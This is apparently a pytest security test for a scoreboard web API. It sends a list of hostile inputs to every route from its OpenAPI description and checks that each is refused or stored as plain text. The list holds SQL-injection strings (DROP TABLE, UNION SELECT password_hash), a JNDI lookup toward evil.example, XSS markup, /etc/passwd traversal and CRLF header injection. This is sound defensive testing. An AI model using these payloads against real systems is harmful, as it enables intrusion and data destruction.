"""SQL, script and markup in every string of every route, as the API describes itself: it is text, or it is refused."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from copy import deepcopy
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from scoreboard.stores.embedded_postgres import running_url
from tests.attacks.conftest import make_admin
from tests.attacks.state import fingerprint, sql
from tests.served import Player, ServedScoreboard

pytestmark = pytest.mark.stores

NASTY = (
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "\\'; SELECT pg_sleep(30); --",
    "$$; DELETE FROM users; $$",
    "%' UNION SELECT password_hash FROM users --",
    "${jndi:ldap://evil.example/a}{{7*7}}%(x)s{0}%n%s",
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: owned=1\r\n\r\n<html>",
    "\u202eevil\u2066\u200b",
    "\x00",
    "\x1b[2J",
    "A" * 5_000,
)
#: What a text of an act may be: it is kept and shown as it is, so these are no refusals.
MAY_BE_KEPT = {"reason", "restrictedUntil", "avatar"}
MISSING = object()


@dataclass(frozen=True)
class Place:
    """Where a string goes: `name` is a parameter, or the path of a field in the body."""

    method: str
    path: str
    where: str
    name: str
    operation: Mapping[str, Any]
    steps: tuple[str | int, ...] = ()


@pytest.fixture(scope="module")
def chief(server: ServedScoreboard, ada: Player) -> Player:
    """Who may do everything, and has somebody to do it to: whatever is sent gets as far as it can."""
    assert 1 == ada.points()
    chief = Player(server, "Chief")
    make_admin(server, chief)
    return chief


def places(described: Mapping[str, Any]) -> Iterator[Place]:
    """Each parameter, and each string in a body that the description shows."""
    for path, methods in described["paths"].items():
        for method, operation in methods.items():
            if method not in {"get", "post", "patch", "put", "delete"}:
                continue
            for parameter in operation.get("parameters", ()):
                yield Place(method, path, parameter["in"], parameter["name"], operation)
            for steps in _strings(_example(operation)):
                yield Place(method, path, "body", str(steps[-1]), operation, steps)


def _example(operation: Mapping[str, Any]) -> Any:
    content = operation.get("requestBody", {}).get("content", {}).get("application/json", {})
    return content.get("example", MISSING)


def _strings(value: Any, steps: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    if isinstance(value, str):
        yield steps
    each = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for name, inner in each:
        yield from _strings(inner, (*steps, name))


def send(chief: Player, place: Place, text: str, ada: str) -> httpx.Response | None:
    """The request with that text in its place; None if no client can send it there."""
    path, query, headers, body = place.path.replace("{userId}", ada), {}, {}, _example(place.operation)
    if place.where == "path":
        path = place.path.replace("{" + place.name + "}", quote(text, safe=""))
    path = re.sub(r"\{\w+\}", ada, path)
    if place.where == "query":
        query = {place.name: text}
    if place.where == "header":
        if not text.isprintable() or not text.isascii():
            return None
        headers = {place.name: text}
    if place.steps:
        body = deepcopy(body)
        inner = body
        for step in place.steps[:-1]:
            inner = inner[step]
        inner[place.steps[-1]] = text
    content = b"" if body is MISSING else json.dumps(body).encode()
    kind = {} if body is MISSING else {"Content-Type": "application/json"}
    return chief.http.request(place.method, path, params=query, headers={**headers, **kind}, content=content)


def hold(answer: httpx.Response, text: str, place: Place) -> None:
    """It is an answer of ours, and no browser takes it for a page, whatever was sent."""
    where = (place.method, place.path, place.name, text[:40], answer.status_code, answer.text[:300])
    assert answer.status_code < 500, where
    assert "set-cookie" not in answer.headers, where
    kinds = {"application/json", "text/event-stream", "text/plain"}
    pages = {"/", "/docs", "/api/docs"}
    assert place.path in pages or answer.headers.get("content-type", "application/json").split(";")[0] in kinds, where
    assert "nosniff" == answer.headers["x-content-type-options"], where
    for secret in ("$2b$", "pg_catalog", "Traceback", "syntax error"):
        assert secret not in answer.text, where


def test_every_string_is_text_or_is_refused(server: ServedScoreboard, chief: Player) -> None:
    """Never an error of ours; what is refused has changed nothing."""
    url, tried = running_url(server.data), 0
    described = chief.http.get("/api/openapi.json").json()
    ada = _of_ada(server)
    for place in places(described):
        if place.path.endswith(("/logout", "/stream")):
            continue
        before = fingerprint(url)
        statuses = set()
        for text in NASTY:
            answer = send(chief, place, text, ada)
            if answer is not None:
                hold(answer, text, place)
                statuses.add(answer.status_code)
                tried += 1
        kept = place.name in MAY_BE_KEPT or place.where == "header"
        if statuses and min(statuses) >= 400 and not kept:
            assert before == fingerprint(url), (place.method, place.path, place.name, statuses)
    assert tried > 500
    assert ["Ada|1", "Chief|0"] == sql(url, "SELECT username, score FROM users ORDER BY username").split()


def _of_ada(server: ServedScoreboard) -> str:
    return sql(running_url(server.data), "SELECT user_id FROM users WHERE username = 'Ada'").strip()


@pytest.mark.parametrize("text", [text for text in NASTY if len(text) <= 500 and "\0" not in text])
def test_a_reason_is_kept_and_shown_as_it_was_written(text: str, server: ServedScoreboard, chief: Player) -> None:
    """Not as anything else, on its way in or out: neither by the database nor by a browser."""
    ada = _of_ada(server)
    there = f"/api/v1/admin/users/{ada}/standing"
    answer = chief.http.post(there, json={"flagged": True, "reason": text})
    if answer.status_code == 400:
        return
    assert 200 == answer.status_code
    page = chief.http.get("/api/v1/admin/audit", params={"userId": ada, "limit": 1})
    assert text == page.json()["data"]["events"][0]["why"]
    assert "application/json" == page.headers["content-type"].split(";")[0]
